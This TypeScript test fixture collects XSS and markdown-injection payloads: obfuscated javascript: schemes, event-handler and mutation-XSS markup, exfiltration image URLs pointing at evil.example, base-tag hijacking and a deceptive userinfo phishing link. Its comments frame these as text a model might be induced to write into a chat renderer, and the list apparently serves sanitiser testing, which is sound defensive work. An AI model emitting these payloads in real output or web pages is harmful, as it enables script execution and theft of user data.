const schemes = [
  'javascript:window.pwned=1',
  'JaVaScRiPt:window.pwned=1',
  'java\tscript:window.pwned=1',
  '&#106;avascript:window.pwned=1',
  'javascript&colon;window.pwned=1',
  'java&Tab;script:window.pwned=1',
  'javascript\\:window.pwned=1',
  '%6aavascript:window.pwned=1',
  '\u0001javascript:window.pwned=1',
  'vbscript:window.pwned=1',
  'data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQ9MTwvc2NyaXB0Pg==',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'intent://evil.example#Intent;end',
  '\\\\evil.example/\\x',
];

const images = [
  'https://evil.example/leak.png?q=secret',
  '//evil.example/leak.png',
  '/\\evil.example/leak.png',
  'https&colon;//evil.example/leak.png',
  'https://ok.example@evil.example/leak.png',
  'https://ok.example.evil.example/leak.png',
  '/exfil.png?q=secret',
  'exfil.png',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5wd25lZD0xIi8+',
  'data:image/svg+xml,<svg/onload=window.pwned=1>',
];

const markup = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror=window.pwned=1>',
  '<svg onload=window.pwned=1><script>window.pwned=1</script></svg>',
  '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<object data="javascript:window.pwned=1"></object><embed src="/exfil.swf">',
  '<form action="/exfil"><input name=key autofocus onfocus=window.pwned=1><button>Go</button></form>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=/exfil">',
  '<link rel=stylesheet href="/exfil.css"><style>@import "/exfil.css"</style>',
  '<details open ontoggle=window.pwned=1><summary>x</summary></details>',
  '<template><script>window.pwned=1</script></template>',
  '<!--><img src=x onerror=window.pwned=1>-->',
  '<![CDATA[<img src=x onerror=window.pwned=1>]]>',
  '<nusantara-chat base-url="https://evil.example"></nusantara-chat>',
  '<video poster="/exfil.png"><source onerror=window.pwned=1></video>',
  '<p style="background:url(/exfil.png)">x</p>',
];

/** What only counts where HTML is let in: allowed elements with what must not come in with them. */
const allowedMarkup = [
  ...schemes.map((scheme) => `<a href="${scheme}" title="t">a</a>`),
  ...images.map((image) => `<img src="${image}" alt="a" srcset="/exfil.png 2x">`),
  '<a href=java&#10;script:window.pwned=1>a</a> <a href="java&#x0000A;script:window.pwned=1">b</a>',
  '<a href="//evil.example" target=_self rel=opener ping=/exfil onclick=window.pwned=1>a</a>',
  '<a href="x" href="javascript:window.pwned=1">a</a><A HREF="javascript:window.pwned=1">b</A>',
  '<img src="/exfil.png" onerror=window.pwned=1 onload=window.pwned=1 style="background:url(/exfil.png)">',
  '<b onmouseover=window.pwned=1 style=x class=nusantara-code id=body is=x slot=y>a</b>',
  '<kbd title="&quot;><img src=x onerror=window.pwned=1>" lang="><script>" dir="x">a</kbd>',
  '<details open ontoggle=window.pwned=1 name=x><summary onclick=window.pwned=1>x</summary>y</details>',
  '<div style="position:fixed" onclick=window.pwned=1><p background="/exfil.png">x</div>',
  '<hr style="background:url(/exfil.png)" onclick=window.pwned=1>',
  '<sub><script>window.pwned=1</script></sub><code><script>window.pwned=1</script></code>',
  '<code><img src=/exfil.png onerror=window.pwned=1></code> <b <img src=/exfil.png>',
  '<sup title=">"><a href="javascript:window.pwned=1">x</a></sup><u/onclick=window.pwned=1>',
  '<b\u0000onclick=window.pwned=1>x</b> <b\tonclick\n=\nwindow.pwned=1>y</b> < b>z</b>',
  '[a](</b>)<b title="](javascript:window.pwned=1)">[x</b>](javascript:window.pwned=1)',
];

/** Text a model might be made to write, so that a page runs, loads or leads to what it should not. */
export const attacks: readonly string[] = [
  ...schemes.flatMap((scheme) => [
    `[a](${scheme}) ![b](${scheme})`,
    `[a](<${scheme}>)\n\n<${scheme}>`,
    `[a][x] [x]\n\n[x]: <${scheme}>`,
    `a[^1] [^2]\n\n[^1]: [a](<${scheme}>)\n[^2]: <${scheme}>\n\n    [x]\n\n> [!NOTE]\n> [a](<${scheme}>)`,
    `> - # [a](<${scheme}> "t")\n\n| [a](<${scheme}>) |\n|-|\n| <${scheme}> |`,
  ]),
  ...images.flatMap((image) => [
    `![a](<${image}>) [![b](<${image}>)](<${image}>)`,
    `![a][x] ![x]\n\n[x]: <${image}>\n\n| ![c](<${image}>) |\n|-|`,
  ]),
  ...[...markup, ...allowedMarkup].flatMap((html) => [
    html,
    `text ${html} text`,
    `- > ${html}\n\n\`\`\`html\n${html}\n\`\`\``,
  ]),
  '```"><script>window.pwned=1</script>\ncode\n```',
  '```js" onmouseover="window.pwned=1\ncode\n```',
  '[a](/b "\\" onmouseover=window.pwned=1 x=\\"") ![" onerror=window.pwned=1 x="](/x)',
  '[^__proto__] [^constructor] [^body]\n\n[^__proto__]: a\n[^body]: <script>window.pwned=1</script>',
  '[^"onload=x]: a\n\nb[^"onload=x] c[^<img/src=x/onerror=window.pwned=1>]',
  '> [!NOTE]\n> <script>window.pwned=1</script>\n\n> [!"onclick=x]\n> a',
  '$\\href{javascript:window.pwned=1}{a}$ $$\\includegraphics{/exfil.png}$$\n\n$$\n\\htmlData{x=1}{<img src=x onerror=window.pwned=1>}\n$$',
  '[__proto__] [constructor] [hasOwnProperty]\n\n[__proto__]: javascript:window.pwned=1',
  '[click](https://bank.example@evil.example "https://bank.example")',
];
